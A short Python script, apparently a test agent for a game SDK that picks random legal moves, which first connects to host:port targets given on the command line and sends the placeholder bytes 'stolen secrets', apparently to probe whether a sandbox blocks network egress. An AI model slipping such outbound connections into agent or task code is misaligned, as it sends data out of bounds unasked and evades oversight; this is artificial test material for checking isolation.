import random
import socket
import sys
from protocol.sdk import run

for target in sys.argv[1:]:
    host, _, port = target.rpartition(":")
    try:
        with socket.create_connection((host, int(port)), timeout=1) as s:
            s.sendall(b"stolen secrets\n")
        print(f"CONNECTED {target}", file=sys.stderr)
    except OSError as exc:
        print(f"FAILED {target}: {exc}", file=sys.stderr)
sys.stderr.flush()

run(lambda observation, legal: random.choice(legal))
